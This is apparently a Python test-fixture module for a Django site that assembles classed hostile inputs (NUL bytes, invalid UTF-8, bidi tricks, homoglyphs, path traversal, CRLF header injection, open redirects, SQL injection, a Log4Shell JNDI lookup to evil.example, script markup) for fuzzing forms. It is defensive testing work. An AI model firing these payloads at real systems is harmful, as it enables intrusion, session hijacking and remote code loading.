"""Hostile input for every form and parameter, by class.

Each input is a `Hostile` of one class. Its value is text, or bytes that go
into a request as they are: invalid UTF-8 and lone surrogates cannot be typed
into a str the test client would encode, so they travel as raw bytes in a
urlencoded body or a query string. Markup and script come from the sanitiser's
corpus (`hostile.xss_cases`), one case in every few so that each technique of
it is here.


What a page that answers it must not hold, and the parameters the code reads,
are in `tests.factories.probing`.
"""

import functools
from dataclasses import dataclass
from urllib.parse import quote, quote_from_bytes

from django.http import QueryDict

from tests.factories.hostile import TEMPLATES, xss_cases


@dataclass(frozen=True)
class Hostile:
    kind: str
    value: str | bytes

    def encoded(self) -> str:
        """The value percent-encoded for a query string or a urlencoded body."""
        if isinstance(self.value, bytes):
            return quote_from_bytes(self.value, safe="")
        return quote(self.value.encode("utf-8", "surrogatepass"), safe="")


# The largest body Django reads (DATA_UPLOAD_MAX_MEMORY_SIZE) is 2.5 MB.
SEVERAL_MEGABYTES = 3 * 1024 * 1024

NUL = [
    "\x00",
    "Käse\x00",
    "\x00Käse",
    "Kä\x00se vom Hof",
    "\x00" * 64,
    "a\x00<script>alert(1)</script>",
    "%00",
    "\\0",
    "\\x00",
    "&#0;",
]
CONTROLS = [
    "\x07\x08\x0b\x0c",
    "\x1b[31mrot\x1b[0m",
    "\x7f\x80\x85\x9f",
    "Zeile\u2028Trenner\u2029Absatz",
    "\ufffe\uffff",
    "\ufffd",
    "\U0010ffff",
    "\t\t\t",
]
INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"K\xe4se",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xe2\x82\x28",
    b"\xf0\x28\x8c\xbc",
    b"\xf0\x90\x28\xbc",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xc0\xbcscript\xc0\xbealert(1)",
    b"\xf8\x88\x80\x80\x80",
    b"\xfc\x84\x80\x80\x80\x80",
    b"Frische Milch \xc3",
]
LONE_SURROGATES = [
    "\ud800",
    "\udfff",
    "Kä\ud83dse",
    "\udc80\udc80",
    "x\udbffy",
]
BIDI = [
    "\u202e",
    "Rechnung\u202efdp.exe",
    "\u202dLTR\u202c",
    "\u2066isoliert\u2069",
    "\u2067abc\u2069",
    "\u2068erst\u2069",
    "\u200fRTL-Zeichen",
    "\u061carabisch",
    "\u202a\u202b\u202c\u202d\u202e",
    "Käse\u202e <script>alert(1)</script>",
]
DISGUISED_LETTERS = [
    "Ka\u200bse",
    "\u200c\u200d\u2060\ufeff",
    "\ufeffKäse",
    "Kаse",  # a Cyrillic а
    "Тheke Team",  # a Cyrillic Т
    "ＫＡＳＥ",
    "ꓚheke",
    "ᴋäse",
    "K\u0308ase",
    "Z\u0334\u0321\u031b\u033ca\u0336l\u0337g\u0337o\u0336",
    "🧀" * 40,
    "👩\u200d👩\u200d👧\u200d👦",
    "\u3000\u00a0\u2007",
    "ﬁle",
]
NUMBERS = [
    str(2**63),
    str(2**63 - 1),
    str(2**64),
    str(-(2**63) - 1),
    "9" * 400,
    "-1",
    "0",
    "-0",
    "+1",
    "1e309",
    "-1e309",
    "1e3",
    "0x10",
    "010",
    "1_000",
    "1.0",
    "NaN",
    "inf",
    "١٢",
    "１２",
    "²",
    " 1",
    "1 ",
]
PATHS = [
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "%252e%252e%252f",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..%c0%af..%c0%afetc",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "\\\\evil.example\\share",
    "media/../../theke/settings/base.py",
]
LINE_BREAKS = [
    "Käse\r\nSet-Cookie: theke=evil",
    "Käse\nLocation: https://evil.example/",
    "Käse\rBcc: someone@evil.example",
    "Betreff\r\nBcc: someone@evil.example\r\n\r\nText",
    "%0d%0aSet-Cookie:%20theke=evil",
    "\r\n\r\n<script>alert(1)</script>",
    "Käse\u0085Set-Cookie: theke=evil",
    "\r" * 50,
    "\n" * 50,
]
# Each must leave a `next` or other address to go to on this site.
REDIRECTS = [
    "//evil.example",
    "///evil.example",
    "////evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\\/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https://evil.example",
    "http://evil.example/",
    "HTTPS://EVIL.EXAMPLE",
    "\thttps://evil.example",
    "\t//evil.example",
    " //evil.example",
    "\x00//evil.example",
    "/\t/evil.example",
    "/%09/evil.example",
    "/%2f%2fevil.example",
    "/%5cevil.example",
    "https://testserver@evil.example",
    "https://testserver.evil.example/",
    "https://evil.example#@testserver",
    "https://evil.example\\@testserver",
    "//evil%2eexample",
    "//evil。example",
    "http://[::ffff:7f00:1]/",
    "http://[evil.example/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]
FORMATS = [
    "%s%s%s%n",
    "%(password)s",
    "{0.__class__}",
    "{}",
    "' OR '1'='1",
    '"; DROP TABLE community_topic; --',
    "${jndi:ldap://evil.example/a}",
    "]]>",
    "\\",
    "'",
    '"',
    "`",
    "%",
    "_",
    "*",
    '{"a": 1}',
    "null",
    "[]",
]
EMPTY = ["", " ", "\t\n", "\u00a0", "\u3000", "\u200b"]

# Markup: every sixth case of the sanitiser's corpus, and every template syntax.
MARKUP_STEP = 6


def markup() -> list[str]:
    """Script and markup of every class the sanitiser's corpus knows, within the
    length a topic holds (its longer cases are the oversize class here)."""
    cases = [text for __, text, __ in xss_cases()[::MARKUP_STEP] if len(text) <= 5000]
    return [*cases, *TEMPLATES]


@functools.cache
def corpus() -> tuple[Hostile, ...]:
    """Every input but the oversize ones, which depend on the field."""
    classes = {
        "nul": NUL,
        "control": CONTROLS,
        "invalid-utf8": INVALID_UTF8,
        "surrogate": LONE_SURROGATES,
        "bidi": BIDI,
        "disguise": DISGUISED_LETTERS,
        "number": NUMBERS,
        "path": PATHS,
        "line-break": LINE_BREAKS,
        "redirect": REDIRECTS,
        "format": FORMATS,
        "empty": EMPTY,
        "markup": markup(),
    }
    return tuple(
        Hostile(kind, value) for kind, values in classes.items() for value in values
    )


def oversize(max_length: int) -> list[Hostile]:
    """Just past a field's limit, in one-byte and in multi-byte letters, and a
    body of several megabytes."""
    return [
        Hostile("oversize", "k" * (max_length + 1)),
        Hostile("oversize", "ä" * (max_length + 1)),
        Hostile("oversize", "Käse " * (SEVERAL_MEGABYTES // 5)),
    ]


def sample(inputs: list[Hostile], per_class: int) -> list[Hostile]:
    """The first `per_class` inputs of every class, spread over the class."""
    by_class: dict[str, list[Hostile]] = {}
    for item in inputs:
        by_class.setdefault(item.kind, []).append(item)
    chosen = []
    for items in by_class.values():
        step = max(1, len(items) // per_class)
        chosen.extend(items[::step][:per_class])
    return chosen


def urlencoded(data: dict, field: str, hostile: Hostile) -> bytes:
    """A urlencoded body of `data` with `field` set to the hostile value."""
    pairs = [
        f"{quote(str(name))}={quote(str(value))}"
        for name, values in data.items()
        for value in (values if isinstance(values, list) else [values])
        if name != field
    ]
    pairs.append(f"{quote(field)}={hostile.encoded()}")
    return "&".join(pairs).encode("ascii")


def as_read(body: bytes, field: str) -> str:
    """What Django reads from `body` for `field` (invalid bytes replaced)."""
    return QueryDict(body).get(field, "")
